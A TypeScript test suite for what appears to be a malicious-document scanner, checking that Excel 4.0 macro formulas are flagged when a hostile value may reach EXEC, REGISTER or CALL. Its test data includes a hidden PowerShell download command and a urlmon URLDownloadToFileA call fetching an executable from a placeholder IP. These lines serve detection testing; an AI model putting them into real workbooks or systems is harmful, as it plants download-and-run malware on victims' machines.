/** Each value that a cell or name may have counts for the calls that use it, whatever is written last. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { OPTIONS_MAX } from '#inspect/programs/excel4/choices.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeXlm } from '#inspect/testing/xlm-writer.ts'

const { outcome } = useInspector()

const E = '"powershell -w hidden -c iwr http://192.0.2.1/a"'
const H = '"notepad c:\\a.txt"'
const UNKNOWN = ['GET.WORKSPACE(19)', 'NOW()>9', 'GET.WINDOW(7)']

type Form = (e: string, h: string, c: string) => readonly string[]

/** Formulas after which the cell B1 may have either value. */
const FORMS: Record<string, Form> = {
  'an IF that overwrites a cell': (e, h, c) => [`SET.VALUE(B1,${e})`, `IF(${c},SET.VALUE(B1,${h}),0)`],
  'an IF that sets a cell': (e, h, c) => [`SET.VALUE(B1,${h})`, `IF(${c},SET.VALUE(B1,${e}),0)`],
  'the other part of an IF': (e, h, c) => [`SET.VALUE(B1,${e})`, `IF(${c},0,SET.VALUE(B1,${h}))`],
  'an IF that overwrites a name': (e, h, c) => [
    `SET.NAME("x",${e})`,
    `IF(${c},SET.NAME("x",${h}),0)`,
    'SET.VALUE(B1,x)',
  ],
  'the value of an IF': (e, h, c) => [`SET.VALUE(B1,IF(${c},${e},${h}))`],
  'the other value of an IF': (e, h, c) => [`SET.VALUE(B1,IF(${c},${h},${e}))`],
  'an IF in an IF': (e, h, c) => [`SET.VALUE(B1,IF(${c},${h},IF(NOW()>2,${h},${e})))`],
  CHOOSE: (e, h) => [`SET.VALUE(B1,CHOOSE(GET.WINDOW(1),${h},${e},"calc"))`],
  'a block': (e, h, c) => [`SET.VALUE(B1,${e})`, `IF(${c})`, `SET.VALUE(B1,${h})`, 'END.IF()'],
  'an ELSE': (e, h, c) => [`IF(${c})`, `SET.VALUE(B1,${e})`, 'ELSE()', `SET.VALUE(B1,${h})`, 'END.IF()'],
  'an ELSE with the threat': (e, h, c) => [
    `IF(${c})`,
    `SET.VALUE(B1,${h})`,
    'ELSE()',
    `SET.VALUE(B1,${e})`,
    'END.IF()',
  ],
  'an ELSE.IF': (e, h, c) => [
    `IF(${c})`,
    `SET.VALUE(B1,${h})`,
    'ELSE.IF(NOW()>3)',
    `SET.VALUE(B1,${e})`,
    'ELSE()',
    `SET.VALUE(B1,${h})`,
    'END.IF()',
  ],
  'blocks in blocks': (e, h, c) => [
    `SET.VALUE(B1,${e})`,
    `IF(${c})`,
    'IF(NOW()>3)',
    `SET.VALUE(B1,${h})`,
    'END.IF()',
    'END.IF()',
  ],
  'a written text': (e, h, c) => [`FORMULA(${e},B1)`, `IF(${c})`, `FORMULA(${h},B1)`, 'END.IF()'],
  'a written formula': (e, h, c) => [
    `FORMULA("="&CHAR(34)&${e}&CHAR(34),B1)`,
    `IF(${c})`,
    `FORMULA("="&CHAR(34)&${h}&CHAR(34),B1)`,
    'END.IF()',
  ],
  'a jump': (e, h, c) => [`SET.VALUE(B1,${e})`, `IF(${c},GOTO(A4),0)`, `SET.VALUE(B1,${h})`],
  'a jump back': (e, h) => [`SET.VALUE(B1,${h})`, 'EXEC(B1)', `SET.VALUE(B1,${e})`, 'GOTO(A2)', `SET.VALUE(B1,${h})`],
  'a WHILE': (e, h, c) => [`SET.VALUE(B1,${e})`, `WHILE(${c})`, `SET.VALUE(B1,${h})`, 'NEXT()'],
  'a FOR with an unknown end': (e, h) => [
    `SET.VALUE(B1,${e})`,
    'FOR("i",1,GET.WINDOW(1))',
    `SET.VALUE(B1,${h})`,
    'NEXT()',
  ],
  'a cell that refers to another': (e, h, c) => [
    `SET.VALUE(C1,${e})`,
    `IF(${c})`,
    `SET.VALUE(C1,${h})`,
    'END.IF()',
    'SET.VALUE(B1,C1)',
  ],
  'a part of the text': (e, h, c) => [
    `SET.VALUE(C1,MID(${e},1,5))`,
    `SET.VALUE(D1,MID(${e},6,99))`,
    `IF(${c})`,
    'SET.VALUE(C1,"x")',
    'END.IF()',
    `SET.VALUE(B1,IF(${c},${h},C1&D1))`,
  ],
}

/** Uses of the cell, with a threat and a harmless value for it. */
const SINKS: Record<string, [use: string, threat: string, harmless: string]> = {
  EXEC: ['EXEC(B1)', E, H],
  REGISTER: ['REGISTER(B1,"URLDownloadToFileA","JJCCJJ","x",,1,9)', '"urlmon"', '"ANALYS32.XLL"'],
  CALL: ['CALL(B1,"URLDownloadToFileA","JJCCJJ",0,"https://192.0.2.1/a","a.exe",0,0)', '"urlmon"', '"ANALYS32.XLL"'],
}
/** Without a name that runs them, harmless ones are no threat. */
const verdict = (formulas: readonly string[]): string | undefined => outcome(writeXlm({ formulas, names: [] }))

for (const [sink, [use, threat, harmless]] of Object.entries(SINKS))
  suite(`a harmless value beside a threat in ${sink}`, () => {
    for (const [name, form] of Object.entries(FORMS))
      test(name, () => {
        for (const condition of UNKNOWN)
          assert.equal(
            verdict([...form(threat, harmless, condition), use, 'RETURN()']),
            'Docvet.Xlm.Execute',
            condition,
          )
      })
  })

suite('harmless values only', () => {
  for (const [name, form] of Object.entries(FORMS))
    test(name, () => assert.equal(verdict([...form('"notepad c:\\b.txt"', H, 'NOW()>9'), 'EXEC(B1)']), undefined))
  test('a value that is overwritten in any case', () =>
    assert.equal(verdict([`SET.VALUE(B1,${E})`, `SET.VALUE(B1,${H})`, 'EXEC(B1)']), undefined))
})

suite('limits', () => {
  const many = (count: number): string[] =>
    Array.from({ length: count }, (_, i) => `IF(NOW()=${i},SET.VALUE(B1,"notepad ${i}.txt"),0)`)
  test('values are all kept, as many as there may be', () => {
    assert.equal(verdict([`SET.VALUE(B1,${H})`, ...many(OPTIONS_MAX - 1), 'EXEC(B1)']), undefined)
    assert.equal(verdict([`SET.VALUE(B1,${E})`, ...many(OPTIONS_MAX - 1), 'EXEC(B1)']), 'Docvet.Xlm.Execute')
  })
  test('one more is too complex', () => {
    assert.equal(verdict([`SET.VALUE(B1,${H})`, ...many(OPTIONS_MAX), 'EXEC(B1)']), 'too_complex')
    assert.equal(verdict([`SET.VALUE(B1,${E})`, ...many(OPTIONS_MAX), 'EXEC(B1)']), 'too_complex')
  })
  test('a repeated text past the limit is too complex', () => {
    for (const count of ['100001', '1E+300', '2^40', '99999999999'])
      assert.equal(verdict([`SET.VALUE(B1,REPT("a",${count}))`, 'EXEC(B1)']), 'too_complex', count)
  })
})
